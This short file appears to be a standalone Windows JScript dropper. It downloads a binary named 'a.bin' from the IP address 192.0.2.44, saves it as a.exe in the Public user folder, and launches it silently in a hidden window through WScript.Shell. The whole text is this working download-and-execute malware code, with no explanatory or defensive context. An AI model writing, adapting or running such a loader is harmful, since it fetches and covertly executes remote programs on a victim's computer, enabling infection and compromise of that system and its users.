var x = new ActiveXObject("MSXML2.XMLHTTP");
x.open("GET", "http://192.0.2.44/a.bin", false); x.send();
var s = new ActiveXObject("ADODB.Stream"); s.Type = 1; s.Open(); s.Write(x.responseBody);
s.SaveToFile("C:\\Users\\Public\\a.exe", 2);
new ActiveXObject("WScript.Shell").Run("C:\\Users\\Public\\a.exe", 0);
